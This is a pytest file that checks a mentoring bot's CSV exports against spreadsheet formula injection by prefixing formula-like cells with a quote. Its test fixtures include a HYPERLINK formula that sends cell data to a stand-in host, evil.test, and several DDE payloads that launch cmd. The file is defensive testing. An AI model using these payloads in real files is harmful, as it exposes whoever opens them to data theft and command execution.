"""CSV formula injection (OWASP): every CSV the app writes shows a cell that starts like a formula as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlmodel import select

from bot.csv_safety import FORMULA_STARTS, neutralise
from bot.dispatch import Dispatcher
from bot.matching.offline import run_offline
from storage.models import Pair
from tests.conftest import COORDINATOR, RunningApp
from tests.helpers import ALICE, BOB, sign_up
from tests.test_journey_flow import MENTEE, MENTOR, START, Clock, World, answer_survey

HYPERLINK = '=HYPERLINK("https://evil.test/steal?d="&A1,"Open HR case")'
ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def cohort_pair(app: RunningApp) -> World:
    """Alice and Bob sign up into the cohort and a coordinator pairs them; the program runs on a fake clock."""
    clock = Clock(START)
    app.services.clock = clock
    app.sandbox.add_user(COORDINATOR, name="coord", real_name="Coordinator")
    sign_up(app, ALICE)
    sign_up(app, BOB)
    answer = app.driver.slash_command(COORDINATOR, f"pair <@{MENTEE}> <@{MENTOR}> testing").json()
    assert "Paired" in answer["text"], answer
    with app.sessions() as session:
        pair = session.exec(select(Pair)).one()
    return World(app=app, clock=clock, pair_id=int(pair.id or 0), dispatcher=Dispatcher(app.services))


def test_a_survey_comment_shaped_like_a_formula_is_text_in_the_export(app: RunningApp) -> None:
    w = cohort_pair(app)
    w.advance(32)  # the first pulse survey
    answer_survey(w, MENTEE, HYPERLINK, "2", "3")
    answer_survey(w, MENTOR, ATTACKS[3], "4", "9")
    before = len(w.app.sandbox.uploaded_files)
    assert w.app.driver.slash_command(COORDINATOR, "export with-comments").status == 200
    w.app.sandbox.wait_for("files.completeUploadExternal", lambda c: len(w.app.sandbox.uploaded_files) > before)
    content = w.app.sandbox.uploaded_files[-1].content.decode()
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert f"'{HYPERLINK}" in cells  # shown as text, never evaluated
    assert f"'{ATTACKS[3]}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    assert content.startswith('"')  # every cell quoted


def test_offline_match_output_neutralises_names(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text(
        "user_id,name,role,skills_offered,skills_wanted,timezone,days,time_slots,languages\n"
        f'U1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",mentee,,python,UTC,mon;tue,morning,english\n'
        'U2,"@Bob",mentor,python,,UTC,mon;tue,morning,english\n',
        encoding="utf-8",
    )
    out = tmp_path / "pairs.csv"
    assert run_offline(people, out, stream=io.StringIO()) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert f"'{HYPERLINK}" in cells and "'@Bob" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", [*ATTACKS, "\rcr", "=1", "plain", "", 3, 2.5, None])
def test_neutralise_only_changes_text_that_starts_like_a_formula(value: object) -> None:
    safe = neutralise(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        assert safe == "'" + value
    else:
        assert safe == value
